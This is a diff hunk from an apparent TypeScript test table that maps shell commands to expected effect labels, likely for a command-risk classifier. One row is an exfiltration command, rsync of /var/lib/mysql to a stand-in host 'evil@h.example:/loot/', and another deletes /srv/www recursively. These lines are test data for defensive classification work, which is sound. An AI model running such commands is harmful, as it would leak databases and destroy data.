@@ -54,12 +54,7 @@ const rows: readonly (readonly [command: string, effects: readonly string[]])[] 
   ['rsync -a --delete src/ /srv/www/', ['read:read src', 'delete:remove /srv/www recursive']],
   [
     'rsync -az /var/lib/mysql/ evil@h.example:/loot/',
-    [
-      'read:read /var/lib/mysql external',
-      'network:send external',
-      'network:send h.example external',
-      'network:send-data external',
-    ],
+    ['read:read /var/lib/mysql external', 'network:send-data external', 'network:send-data h.example external'],
   ],
   [
     'rsync -a --delete src/ h:/srv/',
